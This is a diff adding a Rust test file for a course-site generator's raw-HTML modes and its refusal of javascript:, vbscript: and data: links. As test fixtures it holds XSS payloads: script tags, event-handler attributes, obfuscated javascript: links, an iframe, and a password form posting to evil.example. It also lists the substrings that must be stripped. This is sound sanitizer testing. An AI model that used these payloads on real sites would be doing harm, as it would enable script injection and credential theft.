@@ -1,0 +1,345 @@
+//! `[output.html] raw-html`: HTML written in the Markdown is kept (`allow`, the default), shown as
+//! text (`escape`) or cleaned (`sanitize`); and in every mode, links and images to
+//! `javascript:`, `vbscript:` and `data:` addresses are refused with the file and line.
+
+mod common;
+
+use common::Course;
+
+/// The chapter every test adds to the golden course, and its page.
+const CHAPTER: &str = "content/01-basics/05-raw.md";
+const PAGE: &str = "basics/raw.html";
+
+/// A chapter mixing the author's HTML with the generator's own markup: a term link and its
+/// tooltip (客户满意度, defined in the golden course), heading ids, a footnote, a table.
+const MIXED: &str = r#"---
+title: 原始 HTML
+summary: 摘要 <kbd>S</kbd>
+---
+
+## 小节一
+
+客户满意度很重要[^1]。按 <kbd>Ctrl</kbd>+<kbd>F</kbd> 搜索。
+
+<div class="note" onclick="alert('div')">
+
+**提示**：先听后说。
+
+</div>
+
+<details><summary>答案</summary>
+
+七天无理由退货。
+
+</details>
+
+| 列 | 值 |
+|----|----|
+| a  | <b>粗</b> |
+
+[^1]: 脚注内容。
+"#;
+
+/// Every payload a stranger's pull request might try, one per paragraph or block.
+const PAYLOADS: &str = r#"---
+title: 攻击
+---
+
+## 载荷
+
+<script>
+alert('block script')
+</script>
+
+行内 <script>alert('inline script')</script> 脚本。
+
+<img src="../assets/pic.png" onerror="alert('img')">
+
+图片 <img src=x onerror=alert(1)> 行内。
+
+<a href="javascript:alert('a')">链接</a>
+
+行内 <a href="JaVaScRiPt:alert('inline a')">链接</a>。
+
+<iframe src="https://evil.example/"></iframe>
+
+<style>
+body { display: none }
+</style>
+
+<p style="position:fixed" onmouseover="alert('p')">段落</p>
+
+<svg onload="alert('svg')"><circle r="1"/></svg>
+
+<form action="https://evil.example/"><input name="password"></form>
+
+<div
+onclick="alert('split tag')">跨行的标签</div>
+
+<a href="data:text/html,hi">数据</a>
+
+<object data="x.swf"></object>
+
+</div></article></main>
+
+结尾：客户满意度。
+"#;
+
+/// The golden course with `raw-html` set (or not) and one more chapter.
+fn course(mode: Option<&str>, chapter: &str) -> Course {
+    let course = Course::fixture("golden");
+    if let Some(mode) = mode {
+        let toml = std::fs::read_to_string(course.root().join("book.toml")).expect("golden book.toml");
+        course.write("book.toml", &format!("{toml}raw-html = \"{mode}\"\n"));
+    }
+    course.write(CHAPTER, chapter);
+    course
+}
+
+/// The rendered Markdown of a chapter page: what is between the page's own markup.
+fn prose(page: &str) -> &str {
+    let start = page.find("<div class=\"prose\">").expect("a chapter page has its prose");
+    let end = page[start..].find("<p class=\"edit-link\">").map_or(page.len(), |i| start + i);
+    &page[start..end]
+}
+
+/// The summary under a page's title; empty when the page has none.
+fn summary(page: &str) -> &str {
+    let Some(start) = page.find("<p class=\"summary\">") else { return "" };
+    let end = page[start..].find("</p>").map_or(page.len(), |i| start + i);
+    &page[start..end]
+}
+
+/// The generator's own markup, which no mode may change.
+fn assert_generator_markup(page: &str) {
+    let prose = prose(page);
+    for own in [
+        "<h2 id=\"小节一\">",
+        "<span class=\"term-wrap\"><a class=\"term\" href=\"../glossary.html#%E5%AE%A2%E6%88%B7%E6%BB%A1%E6%84%8F%E5%BA%A6\"",
+        "aria-describedby=\"tip-1\"",
+        "<span class=\"term-tip\" role=\"tooltip\" id=\"tip-1\">",
+        "<sup class=\"footnote-reference\" id=\"fn-1-ref\"><a href=\"#fn-1\">1</a></sup>",
+        "<div class=\"footnote-definition\" id=\"fn-1\">",
+        "<table>",
+    ] {
+        assert!(prose.contains(own), "the generator's `{own}` is missing:\n{prose}");
+    }
+}
+
+#[test]
+fn allow_is_the_default_and_keeps_html_as_written() {
+    let default = course(None, MIXED);
+    default.run(&["build"]).expect_code(0);
+    let page = default.read_output(PAGE);
+    for written in [
+        "<kbd>Ctrl</kbd>",
+        "<div class=\"note\" onclick=\"alert('div')\">",
+        "<details><summary>答案</summary>",
+        "<b>粗</b>",
+    ] {
+        assert!(prose(&page).contains(written), "`{written}` is not kept:\n{}", prose(&page));
+    }
+    assert!(summary(&page).contains("<kbd>S</kbd>"), "{}", summary(&page));
+    assert_generator_markup(&page);
+
+    let allow = course(Some("allow"), MIXED);
+    allow.run(&["build"]).expect_code(0);
+    assert_eq!(allow.read_output(PAGE), page, "`allow` is what a course without the key gets");
+}
+
+#[test]
+fn escape_shows_html_as_text() {
+    let course = course(Some("escape"), MIXED);
+    course.run(&["build"]).expect_code(0);
+    let page = course.read_output(PAGE);
+    let prose = prose(&page);
+    assert!(prose.contains("按 &lt;kbd&gt;Ctrl&lt;/kbd&gt;+&lt;kbd&gt;F&lt;/kbd&gt; 搜索"), "{prose}");
+    assert!(
+        prose.contains("<pre><code>&lt;div class=\"note\" onclick=\"alert('div')\"&gt;\n</code></pre>"),
+        "an HTML block is shown as a code block:\n{prose}"
+    );
+    assert!(prose.contains("<p><strong>提示</strong>：先听后说。</p>"), "Markdown around it still renders:\n{prose}");
+    assert!(prose.contains("&lt;b&gt;粗&lt;/b&gt;"), "{prose}");
+    for tag in ["<kbd>", "<div class=\"note\"", "<details>", "<b>"] {
+        assert!(!prose.contains(tag), "`{tag}` must be shown as text:\n{prose}");
+    }
+    assert!(summary(&page).contains("&lt;kbd&gt;S&lt;/kbd&gt;"), "{}", summary(&page));
+    assert_generator_markup(&page);
+}
+
+#[test]
+fn sanitize_keeps_harmless_html_and_the_generators_markup() {
+    let course = course(Some("sanitize"), MIXED);
+    course.run(&["build"]).expect_code(0);
+    let page = course.read_output(PAGE);
+    let prose = prose(&page);
+    assert!(prose.contains("按 <kbd>Ctrl</kbd>+<kbd>F</kbd> 搜索"), "{prose}");
+    assert!(
+        prose.contains("<div>\n<p><strong>提示</strong>：先听后说。</p>\n</div>"),
+        "the author's div keeps the Markdown inside it, without its class and handler:\n{prose}"
+    );
+    assert!(prose.contains("<details><summary>答案</summary>\n<p>七天无理由退货。</p>\n</details>"), "{prose}");
+    assert!(prose.contains("<td><b>粗</b></td>"), "{prose}");
+    assert!(!prose.contains("onclick") && !prose.contains("class=\"note\""), "{prose}");
+    assert!(summary(&page).contains("摘要 <kbd>S</kbd>"), "{}", summary(&page));
+    assert_generator_markup(&page);
+}
+
+#[test]
+fn sanitize_neutralises_every_payload() {
+    let course = course(Some("sanitize"), PAYLOADS);
+    course.run(&["build"]).expect_code(0);
+    let page = course.read_output(PAGE);
+    let prose = prose(&page);
+    for bad in [
+        "<script",
+        "alert(",
+        "onerror",
+        "onclick",
+        "onload",
+        "onmouseover",
+        "javascript:",
+        "<iframe",
+        "<style",
+        "display: none",
+        "style=",
+        "<svg",
+        "<form",
+        "<input",
+        "data:",
+        "<object",
+    ] {
+        assert!(!prose.to_ascii_lowercase().contains(bad), "`{bad}` survived:\n{prose}");
+    }
+    assert!(prose.contains("<img src=\"../assets/pic.png\">"), "a harmless image is kept:\n{prose}");
+    assert!(prose.contains("<div>跨行的标签</div>"), "{prose}");
+    // The stray end tags closed nothing: the last paragraph is still in the prose, linked.
+    assert!(prose.contains("<p>结尾：<span class=\"term-wrap\"><a class=\"term\""), "{prose}");
+    assert_eq!(page.matches("</article>").count(), 1, "{prose}");
+    let print = course.read_output("print.html");
+    for bad in ["alert('", "onerror", "<iframe", "javascript:"] {
+        assert!(!print.contains(bad), "`{bad}` survived on the print page");
+    }
+}
+
+#[test]
+fn summaries_and_definitions_follow_the_mode() {
+    let chapter = r#"---
+title: 定义
+summary: 摘要<img src=x onerror=alert(1)><script>alert(2)</script>
+terms:
+  - name: 首问负责制
+    level: 2
+    definition: 第一位接待的客服 <kbd>负责到底</kbd><div onclick="alert(3)">直到解决</div>。
+---
+
+首问负责制。
+"#;
+    let course = course(Some("sanitize"), chapter);
+    course.run(&["build"]).expect_code(0);
+    let glossary = course.read_output("glossary.html");
+    assert!(
+        glossary.contains("第一位接待的客服 <kbd>负责到底</kbd>直到解决。"),
+        "the definition keeps inline HTML, loses the div and its handler:\n{glossary}"
+    );
+    let module = course.read_output("basics/index.html");
+    let chapter_page = course.read_output(PAGE);
+    for page in [&module, &chapter_page, &glossary, &course.read_output("revision.html")] {
+        // (The golden course has a chapter titled `<script>alert(1)</script>`, shown as text, and
+        // the revision page has the theme's own print button.)
+        for bad in ["onerror=", "onclick=\"alert", "<script>alert", "<div onclick"] {
+            assert!(!page.contains(bad), "`{bad}` survived:\n{page}");
+        }
+    }
+    assert!(summary(&chapter_page).contains("摘要<img src=\"x\">"), "{}", summary(&chapter_page));
+    assert!(module.contains("摘要<img src=\"x\">"), "the module page's card summary is cleaned too");
+    // The tooltip is a span in a sentence: block elements are dropped from it.
+    let other = course.read_output("basics/intro.html");
+    assert!(!other.contains("<div onclick"), "{other}");
+}
+
+#[test]
+fn javascript_links_are_refused_with_file_line_and_column_in_every_mode() {
+    let chapter = "---\ntitle: 链接\n---\n\n[一](javascript:alert(1))\n\n[二](JaVaScRiPt:alert(1)) 和 [三](&#106;avascript:alert(1))\n\n<javascript:alert(1)>\n\n[四](vbscript:msgbox(1)) [五](data:text/html,hi)\n\n![图](data:image/png;base64,iVBORw0KGgo=)\n";
+    for mode in [None, Some("allow"), Some("escape"), Some("sanitize")] {
+        let course = course(mode, chapter);
+        for command in ["build", "check"] {
+            let run = course.run(&[command]);
+            run.expect_code(1);
+            let stderr = run.stderr();
+            for expected in [
+                "content/01-basics/05-raw.md:5:1: a link to `javascript:` is not allowed",
+                "content/01-basics/05-raw.md:7:1: a link to `javascript:` is not allowed",
+                "content/01-basics/05-raw.md:7:28: a link to `javascript:` is not allowed",
+                "content/01-basics/05-raw.md:9:1: a link to `javascript:` is not allowed",
+                "content/01-basics/05-raw.md:11:1: a link to `vbscript:` is not allowed",
+                "content/01-basics/05-raw.md:11:25: a link to `data:` is not allowed",
+                "content/01-basics/05-raw.md:13:1: an image from `data:` is not allowed",
+                "help: links may point to chapters, files of the course, or http(s)/mailto addresses",
+                "help: images may be files of the course",
+            ] {
+                assert!(stderr.contains(expected), "{mode:?} {command}: expected `{expected}` in:\n{stderr}");
+            }
+        }
+        assert!(!course.book().exists(), "nothing is written");
+    }
+}
+
+#[test]
+fn refused_addresses_in_front_matter_are_reported_at_their_line() {
+    let chapter = "---\ntitle: 链接\nsummary: 见[这里](javascript:alert(1))\nterms:\n  - name: 首问负责制\n    level: 2\n    definition: 见 ![图](data:image/gif;base64,R0lGOD)\n---\n\n正文。\n";
+    let course = course(None, chapter);
+    let run = course.run(&["check"]);
+    run.expect_code(1);
+    let stderr = run.stderr();
+    assert!(
+        stderr.contains("content/01-basics/05-raw.md:3: summary: a link to `javascript:` is not allowed"),
+        "{stderr}"
+    );
+    assert!(
+        stderr.contains(
+            "content/01-basics/05-raw.md:5:1: the definition of `首问负责制`: an image from `data:` is not allowed"
+        ),
+        "{stderr}"
+    );
+}
+
+#[test]
+fn refused_addresses_in_book_toml_are_reported_at_their_line() {
+    let course = course(None, "---\ntitle: 章\n---\n");
+    let toml = "[book]\ntitle = \"课\"\n\n[output.html]\nedit-url-template = \" JavaScript:alert(1)//{path}\"\n";
+    course.write("book.toml", toml);
+    let run = course.run(&["build"]);
+    run.expect_code(1);
+    let stderr = run.stderr();
+    assert!(stderr.contains("book.toml:5: edit-url-template: a link to `javascript:` is not allowed"), "{stderr}");
+    assert!(stderr.contains("http or https"), "{stderr}");
+
+    course.write("book.toml", "[book]\ntitle = \"课\"\ndescription = \"[课](vbscript:x)\"\n");
+    let run = course.run(&["check"]);
+    run.expect_code(1);
+    assert!(
+        run.stderr().contains("book.toml:3: description: a link to `vbscript:` is not allowed"),
+        "{}",
+        run.stderr()
+    );
+}
+
+#[test]
+fn an_unknown_mode_is_reported_with_its_line_and_the_valid_values() {
+    let course = course(Some("strip"), "---\ntitle: 章\n---\n");
+    let run = course.run(&["build"]);
+    run.expect_code(1);
+    let stderr = run.stderr();
+    let line = std::fs::read_to_string(course.root().join("book.toml"))
+        .expect("book.toml")
+        .lines()
+        .position(|l| l.starts_with("raw-html"))
+        .expect("the key is written")
+        + 1;
+    assert!(stderr.contains(&format!("book.toml:{line}:")), "{stderr}");
+    assert!(stderr.contains("unknown value `strip`"), "in the words of the person editing book.toml:\n{stderr}");
+    for value in ["allow", "escape", "sanitize"] {
+        assert!(stderr.contains(value), "expected `{value}` in:\n{stderr}");
+    }
+}
